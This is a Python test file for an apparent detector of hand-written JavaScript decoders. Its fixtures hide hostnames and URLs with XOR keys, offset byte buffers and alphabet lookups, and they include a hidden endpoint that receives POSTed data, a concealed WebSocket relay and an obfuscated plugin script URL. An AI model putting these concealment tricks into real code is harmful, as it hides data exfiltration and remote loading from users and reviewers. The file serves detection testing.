"""Hand-written decoders found by what they do, not by their shape: XOR with a key's char codes,
bytes computed into a ``Buffer`` and read back as text, characters picked from an alphabet by a
computed index; and a decoder called from a callback over a constant list (red team 6 classes:
hex XORed with a 6-byte key, ``Buffer.from((n-31-i)&255)``, a ``(k*7+3) % 67`` lookup table)."""

from __future__ import annotations

from collections.abc import Callable

from agentxray.model import Finding, Notice

RunDetectors = Callable[..., tuple[list[Finding], list[Notice]]]

ALPHABET = "Qm3.xZ/a-Kp:9rLwTsh_eBgcYn1dVuUjkoiNtlv"


def _xor_hex(text: str, key: str) -> str:
    return "".join(f"{ord(c) ^ ord(key[i % len(key)]):02x}" for i, c in enumerate(text))


def _indices(text: str, mul: int, add: int) -> list[int]:
    n = len(ALPHABET)
    return [next(k for k in range(n) if (k * mul + add) % n == ALPHABET.index(c)) for c in text]


def _hidden(findings: list[Finding]) -> Finding:
    (finding,) = [f for f in findings if f.category == "obfuscated-data"]
    assert finding.rule == "js-obfuscated-data"
    return finding


def test_xor_with_key_char_codes_in_a_static_method_over_a_list(run_all: RunDetectors) -> None:
    # js-obfuscated-data: hex pairs XORed with a literal key's char codes, bytes made text by
    # Buffer; the decoder is a class's static method called from a callback over the list.
    src = (
        "class Codec {\n"
        "  static open(hex) {\n"  # line 2
        "    const bytes = [];\n"
        "    for (let i = 0; i < hex.length; i += 2)\n"
        "      bytes.push(parseInt(hex.slice(i, i + 2), 16) ^ 'q7!Zp'.charCodeAt((i >> 1) % 5));\n"
        "    return Buffer.from(bytes).toString();\n"
        "  }\n"
        "}\n"
        f"const WATCH = {[_xor_hex(h, 'q7!Zp') for h in ('acme-robotics.com', 'fabrikam.io')]};\n"
        "export function throttled(email) {\n"
        "  return WATCH.map((h) => Codec.open(h)).some((d) => email.endsWith('@' + d));\n"
        "}\n"
    )
    finding = _hidden(run_all(src.encode())[0])
    assert finding.location.line == 2
    assert finding.decoded == ("acme-robotics.com", "fabrikam.io")


def test_xor_key_first_in_a_function_with_a_default_key(run_all: RunDetectors) -> None:
    # js-obfuscated-data: the key is a default parameter and comes first in the XOR; the
    # function is called from an arrow handing on its parameter.
    src = (
        "function unpack(hex, key = 'K9#x') {\n"  # line 1
        "  let s = '';\n"
        "  for (let i = 0; i < hex.length; i += 2)\n"
        "    s += String.fromCodePoint(key.charCodeAt(i / 2 % key.length) ^ parseInt(hex.substr(i, 2), 16));\n"
        "  return s;\n"
        "}\n"
        f"const HOSTS = ['{_xor_hex('quillstack-relay.dev', 'K9#x')}'];\n"
        "module.exports = () => HOSTS.map((x) => unpack(x));\n"
    )
    finding = _hidden(run_all(src.encode())[0])
    assert finding.location.line == 1  # the decoder
    assert finding.decoded == ("quillstack-relay.dev",)


def test_bytes_computed_into_a_buffer_read_as_ascii(run_all: RunDetectors) -> None:
    # js-obfuscated-data: position-dependent offsets undone in a mapped list, Buffer to text.
    raw = [(ord(c) + 17 + i) & 255 for i, c in enumerate("https://push.veldt-labs.net/v2/u")]
    src = (
        f"const RAW = {raw};\n"
        "const endpoint = () =>\n"
        '  Buffer.from(RAW.map((n, i) => (n - 17 - i) & 255)).toString("ascii");\n'  # line 3
        "module.exports = async (body) => fetch(endpoint(), { method: 'POST', body });\n"
    )
    finding = _hidden(run_all(src.encode())[0])
    assert finding.location.line == 3
    assert finding.decoded == ("https://push.veldt-labs.net/v2/u",)


def test_minified_xor_buffer_read_as_latin1(run_all: RunDetectors) -> None:
    codes = [ord(c) ^ 42 for c in "wss://relay.orchid-ops.dev/socket"]
    src = (
        f'const host=Buffer.from({codes}.map(c=>c^42)).toString("latin1");'
        "module.exports=()=>new WebSocket(host);\n"
    )
    finding = _hidden(run_all(src.encode())[0])
    assert finding.location.line == 1
    assert finding.decoded == ("wss://relay.orchid-ops.dev/socket",)


def test_alphabet_lookup_by_computed_index(run_all: RunDetectors) -> None:
    # js-obfuscated-data: each index picks a character of an alphabet at (k * 5 + 2) % n, in
    # a readable loop and in a mapped charAt.
    url = "https://plugins.kestrel-dev.io/x.js"
    other = "https://plugins.kestrel-dev.io/v.js"
    src = (
        f'const ALPHA = "{ALPHABET}";\n'
        "function word(ks) {\n"
        "  let out = '';\n"
        "  for (const k of ks) out += ALPHA[(k * 5 + 2) % ALPHA.length];\n"
        "  return out;\n"
        "}\n"
        "const pick = (ks) => ks.map((k) => ALPHA.charAt((k * 5 + 2) % ALPHA.length)).join('');\n"
        f"export const HOOK = word({_indices(url, 5, 2)});\n"
        f"export const FEED = pick({_indices(other, 5, 2)});\n"
    )
    found = [f for f in run_all(src.encode())[0] if f.category == "obfuscated-data"]
    decoded = {(f.location.line, v) for f in found for v in f.decoded}
    assert decoded == {(2, url), (7, other)}  # at each decoder


def test_byte_and_alphabet_lookalikes_are_silent(run_all: RunDetectors) -> None:
    # ok: round-robin colours, a spinner, a gzip magic number as latin1, a string hash.
    src = (
        'const COLORS = ["#ff0000", "#00ff00", "#0000ff", "#ffaa00"];\n'
        "export function colorFor(i) { return COLORS[(i * 3 + 1) % COLORS.length]; }\n"
        "export const first = colorFor(2);\n"
        'const SPIN = "|/-\\\\";\n'
        "export const frame = (t) => SPIN.charAt((t * 1) % SPIN.length);\n"
        'export const magic = Buffer.from([0x1f, 0x8b, 0x08, 0x00]).toString("latin1");\n'
        "export function hash(s) {\n"
        "  let h = 0;\n"
        "  for (let i = 0; i < s.length; i++) h = (h * 31) ^ s.charCodeAt(i);\n"
        "  return h >>> 0;\n"
        "}\n"
        'export const sum = hash("hello world, this is a test");\n'
        "const GREETING = [72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100];\n"
        "export const hello = Buffer.from(GREETING.map((c) => c)).toString('ascii') === 'Hello, world';\n"
    )
    findings, _ = run_all(src.encode())
    assert [f for f in findings if f.category == "obfuscated-data"] == []
